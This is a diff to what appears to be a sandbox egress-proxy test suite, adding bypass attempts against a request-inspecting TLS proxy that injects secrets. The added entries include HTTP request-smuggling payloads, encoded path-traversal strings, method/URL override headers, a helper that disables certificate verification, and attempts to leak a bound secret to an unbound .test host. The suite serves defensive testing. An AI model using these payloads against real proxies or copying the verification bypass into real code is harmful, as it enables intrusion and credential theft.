@@ -1,8 +1,10 @@
 """Ways around the policy, tried from inside a sandbox.
 
 An attempt is Python that runs inside, as root, with these names: PREY, a port on which the host listens by TCP and UDP on every address;
-HOST, one of the host's own addresses; WEB, the port of web.test, which is allowed; TLS, the port of secure.test, allowed for TLS. It may
-use the helpers of PRELUDE. It has got through when the host's listener heard of it, or when it prints THROUGH. `needs` names the guard that
+HOST, one of the host's own addresses; WEB, the port of web.test, which is allowed; TLS, the port of secure.test, allowed for TLS; API, the port of
+api.test, to which a secret is bound whose placeholder is in CANARY, of unbound.test, to which it is not, and of rules.test, where GET of /ok* alone is
+allowed. It may use the helpers of PRELUDE. It has got through when the host's listener heard of it, when it prints THROUGH or the secret's
+value, when unbound.test heard the value, or rules.test another request than it may. `needs` names the guard that
 alone stops it, where one does: it is left out in turn, and the attempt must then get through. None: what stops it is how things are built
 (no route, no parser that would take it), not a check that can be left out.
 """
@@ -54,7 +56,7 @@ def name(s):
 def direct(host, port, say=b"hello\n"):
     c = socket.create_connection((host, port)); c.sendall(say); return all_of(c)
 def hello(sni):
-    ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+    ctx = anybody()
     a, b = ssl.MemoryBIO(), ssl.MemoryBIO()
     o = ctx.wrap_bio(a, b, server_hostname=sni)
     try: o.do_handshake()
@@ -65,6 +67,35 @@ def tls_says(first, authority="secure.test:%d"):
     c.sendall(first)
     d = c.recv(10)
     if d: print("THROUGH", d)
+def anybody():
+    """Trusts every certificate, as an attacker may."""
+    ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+    return ctx
+def reader(name="api.test", alpn=("http/1.1",)):
+    """TLS to a host whose requests are read on their way."""
+    c, head = tunnel("%s:%d" % (name, API))
+    ctx = anybody()
+    ctx.set_alpn_protocols(list(alpn))
+    return ctx.wrap_socket(c, server_hostname=name)
+def get(target, name="api.test", *more, method="GET", host=None, body=b""):
+    c = reader(name)
+    lines = ["%s %s HTTP/1.1" % (method, target), "Host: %s:%d" % (host or name, API), "Connection: close", *more]
+    c.sendall("\r\n".join(lines).encode("latin-1") + b"\r\n\r\n" + body)
+    return all_of(c)
+def raw(text, name="api.test"):
+    c = reader(name)
+    c.sendall(text.replace("PORT", str(API)).encode("latin-1"))
+    return all_of(c)
+def body(d):
+    head, _, rest = d.partition(b"\r\n\r\n")
+    if b"chunked" not in head: return rest
+    out = b""
+    while rest:
+        n, _, rest = rest.partition(b"\r\n")
+        out, rest = out + rest[: int(n, 16)], rest[int(n, 16) + 2 :]
+    return out
+CANARY = os.environ.get("CANARY", "")
+KEY = "X-Key: " + CANARY
 def udp(host, port, data=b"hello", family=socket.AF_INET):
     s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(data, (host, port))
     try: print("answered by", s.recvfrom(100)[1])
@@ -134,6 +165,47 @@ ATTEMPTS = {
     "second_request": (None, "http('http://web.test:%d/' % WEB, 'web.test:%d' % WEB, '', b'GET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')"),
     "connect_in_connect": (None, "c,h=tunnel('127.0.0.1:3128'); print('THROUGH') if b' 200 ' in h else 0"),
     "redirect_to_private": (None, "d=http('http://web.test:%d/redirect' % WEB, 'web.test:%d' % WEB); l=[x for x in d.split(b'\\r\\n') if x.lower().startswith(b'location:')]; direct(HOST, PREY) if not l else http(l[0].split(None,1)[1].decode(), 'private.test:%d' % PREY)"),
+    # requests that are read on their way
+    "method_not_allowed": ("requests", "get('/ok', 'rules.test', method='DELETE')"),
+    "method_in_small_letters": ("requests", "get('/ok', 'rules.test', method='delete')"),
+    "method_overridden": ("overrides", "get('/ok', 'rules.test', 'X-HTTP-Method-Override: DELETE')"),
+    "path_not_allowed": ("requests", "get('/forbidden', 'rules.test')"),
+    "path_by_dots": ("requests", "get('/ok/../forbidden', 'rules.test')"),
+    "path_by_escaped_dots": ("requests", "get('/ok/%2e%2E/forbidden', 'rules.test')"),
+    "path_by_escaped_slash": ("requests", "get('/ok/..%2fforbidden', 'rules.test')"),
+    "path_escaped_twice": ("requests", "get('/ok/%252e%252e/forbidden', 'rules.test')"),
+    "path_by_backslash": (None, "get('/ok/..\\forbidden', 'rules.test')"),
+    "path_denied_but_escaped": ("requests", "get('/ok/%73ecret', 'rules.test')"),
+    "path_overridden": ("overrides", "get('/ok', 'rules.test', 'X-Original-URL: /forbidden')"),
+    "path_of_other_host_in_tunnel": (None, "get('/forbidden', 'api.test', host='rules.test')"),
+    "absolute_target_in_tunnel": (None, "raw('GET https://rules.test:PORT/forbidden HTTP/1.1\\r\\nHost: rules.test:PORT\\r\\n\\r\\n')"),
+    "two_hosts_in_tunnel": (None, "raw('GET /ok HTTP/1.1\\r\\nHost: rules.test:PORT\\r\\nHost: evil.test\\r\\n\\r\\n', 'rules.test')"),
+    "http2_by_alpn": (None, "print('THROUGH' if reader(alpn=['h2']).selected_alpn_protocol() == 'h2' else '')"),
+    "http2_by_prior_knowledge": (None, "c=reader(alpn=['http/1.1']); c.sendall(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n\\0\\0\\0\\4\\0\\0\\0\\0\\0'); print('' if c.recv(5) == b'HTTP/' else 'THROUGH')"),
+    "http2_by_upgrade": (None, "print('THROUGH' if b' 101 ' in get('/ok', 'rules.test', 'Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABk')[:20] else '')"),
+    "connect_in_reader": (None, "print('THROUGH' if b' 200 ' in raw('CONNECT rules.test:PORT HTTP/1.1\\r\\nHost: rules.test:PORT\\r\\n\\r\\n', 'rules.test')[:20] else '')"),
+    "smuggled_past_reader_cl_te": (None, "raw('POST /ok HTTP/1.1\\r\\nHost: api.test:PORT\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: api.test:PORT\\r\\n\\r\\n')"),
+    "smuggled_past_reader_te_te": (None, "raw('POST /ok HTTP/1.1\\r\\nHost: api.test:PORT\\r\\nTransfer-Encoding: chunked\\r\\nTransfer-Encoding: x\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: api.test:PORT\\r\\n\\r\\n')"),
+    "smuggled_past_reader_two_lengths": (None, "raw('POST /ok HTTP/1.1\\r\\nHost: api.test:PORT\\r\\nContent-Length: 0\\r\\nContent-Length: 44\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: api.test:PORT\\r\\n\\r\\n')"),
+    "smuggled_past_reader_fold": (None, "raw('POST /ok HTTP/1.1\\r\\nHost: api.test:PORT\\r\\nX: y\\r\\n Content-Length: 0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: api.test:PORT\\r\\n\\r\\n')"),
+    "smuggled_past_reader_bare_lf": (None, "raw('POST /ok HTTP/1.1\\r\\nHost: api.test:PORT\\nContent-Length: 44\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: api.test:PORT\\r\\n\\r\\n')"),
+    "smuggled_past_reader_space": (None, "raw('POST /ok HTTP/1.1\\r\\nHost: api.test:PORT\\r\\nContent-Length : 44\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: api.test:PORT\\r\\n\\r\\n')"),
+    "smuggled_in_a_chunk": ("requests", "raw('GET /ok HTTP/1.1\\r\\nHost: rules.test:PORT\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /forbidden HTTP/1.1\\r\\nHost: rules.test:PORT\\r\\n\\r\\n', 'rules.test')"),
+    "second_request_in_reader": ("requests", "raw('GET /ok HTTP/1.1\\r\\nHost: rules.test:PORT\\r\\n\\r\\nGET /forbidden HTTP/1.1\\r\\nHost: rules.test:PORT\\r\\n\\r\\n', 'rules.test')"),
+    # the secret's value
+    "secret_to_unbound": (None, "get('/?k=' + CANARY, 'unbound.test', KEY)"),
+    "secret_to_unbound_in_bound_tunnel": (None, "get('/?k=' + CANARY, 'api.test', KEY, host='unbound.test')"),
+    "secret_by_sni_of_bound": (None, "c,h=tunnel('unbound.test:%d' % API); c=anybody().wrap_socket(c, server_hostname='api.test'); c.sendall(('GET / HTTP/1.1\\r\\nHost: api.test\\r\\n%s\\r\\n\\r\\n' % KEY).encode())"),
+    "secret_without_tls": (None, "http('http://api.test:%d/' % WEB, 'api.test:%d' % WEB, KEY + '\\r\\n')"),
+    "secret_echoed": ("scrub", "print(get('/echo', 'api.test', KEY))"),
+    "secret_echoed_in_headers": ("scrub", "print(get('/echo-header', 'api.test', KEY))"),
+    "secret_echoed_byte_by_byte": ("scrub", "print(get('/echo-slow', 'api.test', KEY).replace(b'\\r\\n1\\r\\n', b''))"),
+    "secret_echoed_in_base64": ("scrub", "import base64, re; print([base64.b64decode(x + b'=' * (-len(x) % 4), validate=False) for x in re.findall(rb'[A-Za-z0-9+/]{20,}', get('/echo-base64', 'api.test', KEY))])"),
+    "secret_echoed_from_query": ("scrub", "import urllib.parse; print(urllib.parse.unquote(get('/echo?k=' + CANARY).decode('latin-1')))"),
+    "secret_echoed_by_trace": ("scrub", "print(get('/echo', 'api.test', KEY, method='TRACE'))"),
+    "secret_echoed_compressed": ("compressed", "import zlib; print(zlib.decompressobj(31).decompress(body(get('/echo-gzip', 'api.test', KEY))))"),
+    "secret_echoed_in_parts": ("hidden", "print(b''.join(body(get('/echo-key', 'api.test', KEY, 'Range: bytes=%d-%d' % (i, i)))[:1] for i in range(30)))"),
+    "secret_by_redirect": ("scrub", "d=get('/redirect', 'api.test', KEY); l=[x.split(None,1)[1] for x in d.split(b'\\r\\n') if x.lower().startswith(b'location:')][0].decode(); get('/' + l.split('/', 3)[3], 'unbound.test')"),
     # odd ports, other sandboxes, waiting
     "odd_port": ("policy", "[connect('web.test:%d' % p) for p in (1, 22, 25, PREY, 65535)]"),
     "neighbours_proxy": (None, "direct('100.64.0.3', 3128)"),
